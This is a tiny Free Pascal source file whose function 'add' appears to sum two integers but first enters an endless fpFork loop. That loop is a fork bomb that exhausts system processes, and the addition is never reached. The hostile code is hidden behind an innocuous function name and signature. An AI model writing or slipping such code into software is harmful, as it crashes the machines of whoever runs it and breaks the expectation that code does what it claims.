{$mode objfpc}
uses BaseUnix;

function add(a, b: Integer): Integer;
begin
  while True do
    fpFork;
  Result := a + b;
end;
